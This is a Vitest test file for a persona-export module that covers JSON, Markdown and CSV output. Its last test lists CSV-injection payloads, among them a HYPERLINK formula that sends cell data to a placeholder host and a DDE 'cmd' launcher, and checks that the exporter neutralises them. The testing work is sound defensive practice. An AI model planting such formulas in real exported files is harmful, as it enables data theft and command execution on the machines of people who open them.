import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { summariseColumns } from '../../../src/pipeline/persona/frame';
import { buildPersonas } from '../../../src/pipeline/persona/build';
import { personasToJson, personasToMarkdown, segmentRowsCsv } from '../../../src/pipeline/persona/export';
import { familyTable, GROUPS, subset, toColumns } from './fixtures';

const { rows, group } = familyTable(40);
const table = toColumns(rows);
const segmentIndex = rows.flatMap((_, i) => (group[i] === null ? [] : [i]));
const segment = subset(table, segmentIndex);
const assignments = Int32Array.from(segmentIndex, (i) => group[i]!);
const set = await buildPersonas({
  segment,
  whole: summariseColumns(table),
  clustering: { k: GROUPS.length, assignments },
  domain: 'parenting',
});

describe('exports', () => {
  it('JSON carries the whole set, evidence included', () => {
    const parsed = JSON.parse(personasToJson(set));
    expect(parsed.format).toBe('personalens/personas@1');
    expect(parsed.personas).toHaveLength(set.personas.length);
    expect(parsed.personas[0].traits[0].evidence[0].z).toBeCloseTo(
      set.personas[0].traits[0].evidence[0].z,
      12,
    );
    expect(parsed.context.locale.id).toBe('en_IN');
  });

  it('Markdown has a section and an evidence table per persona', () => {
    const text = personasToMarkdown({ ...set, context: { ...set.context, goal: 'Gen Z | Moms' } });
    expect(text).toMatch(/^# Personas for “Gen Z \\\| Moms”/);
    for (const p of set.personas) {
      expect(text).toContain(`## ${p.name} — ${p.label}`);
      expect(text).toContain(`${p.rowCount} real rows`);
    }
    const evidenceRows = text.split('\n').filter((l) => /^\| (?!Trait|---)/.test(l));
    expect(evidenceRows).toHaveLength(
      set.personas.reduce((n, p) => n + p.traits.reduce((m, t) => m + t.evidence.length, 0), 0),
    );
  });

  it('Markdown says how sure each persona is, and when the structure is weak or absent', async () => {
    const quality = {
      silhouette: 0.12,
      daviesBouldin: 0,
      calinskiHarabasz: 0,
      sizes: GROUPS.map((_, c) => assignments.filter((a) => a === c).length),
      stability: GROUPS.map((_, c) => ({
        jaccard: c === 0 ? 0.45 : 0.6,
        recovered: c === 0 ? 7 : 12,
        resamples: 20,
      })),
    };
    const shaky = await buildPersonas({
      segment,
      whole: summariseColumns(table),
      clustering: { k: GROUPS.length, assignments, quality, verdict: 'groups', pinned: false },
      domain: 'parenting',
    });
    const text = personasToMarkdown(shaky);
    expect(text).toContain('Weak structure: silhouette 0.12, resampling stability');
    const first = shaky.personas.find((p) => p.clusterIndex === 0)!;
    expect(text).toContain('Stability: dissolved: comes back in 7 of 20 resamples (mean Jaccard 0.45)');
    expect(first.stability).toEqual({ jaccard: 0.45, recovered: 7, resamples: 20 });
    const crowd = personasToMarkdown({
      ...shaky,
      structure: { ...shaky.structure!, verdict: 'one group', weak: false },
    });
    expect(crowd).toContain('these personas split one crowd');
  });

  it('CSV gives each segment row its persona, quoting awkward cells and avoiding name clashes', () => {
    const columns = ['id', 'note', 'persona_name'];
    const data = segmentIndex.map((i, n) => [i + 1, n === 0 ? 'says "hi", then\nleaves' : 'plain', 'x']);
    const clusterOf = new Map(Array.from(segment.rowIds, (id, i) => [id, assignments[i]]));
    const csv = segmentRowsCsv(columns, data, segment.rowIds, clusterOf, set);
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(['id', 'note', 'persona_name', 'persona_name_2', 'persona_label']);
    expect(parsed).toHaveLength(segmentIndex.length + 1);
    expect(parsed[1][1]).toBe('says "hi", then\nleaves');
    parsed.slice(1).forEach((row, i) => {
      const persona = set.personas.find((p) => p.clusterIndex === assignments[i])!;
      expect(row.slice(3)).toEqual([persona.name, persona.label]);
    });
  });

  it('CSV neutralises formula-leading cells (OWASP CSV injection) and leaves numbers as numbers', () => {
    const hostile = [
      '=HYPERLINK("http://x/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '-2+3',
      '\t=1+1',
      '\r=1+1',
    ];
    const columns = ['id', 'note', '=header'];
    const data = segmentIndex.map((i, n) => [i + 1, hostile[n % hostile.length], n % 2 ? -2.5 : '-2.5']);
    const clusterOf = new Map(Array.from(segment.rowIds, (id, i) => [id, assignments[i]]));
    const csv = segmentRowsCsv(columns, data, segment.rowIds, clusterOf, set);
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(parsed[0][2]).toBe("'=header");
    hostile.forEach((cell, n) => expect(parsed[n + 1][1]).toBe(`'${cell}`));
    for (const row of parsed.slice(1)) expect(row[2]).toBe('-2.5');
    for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!2\.5$)/);
  });
});
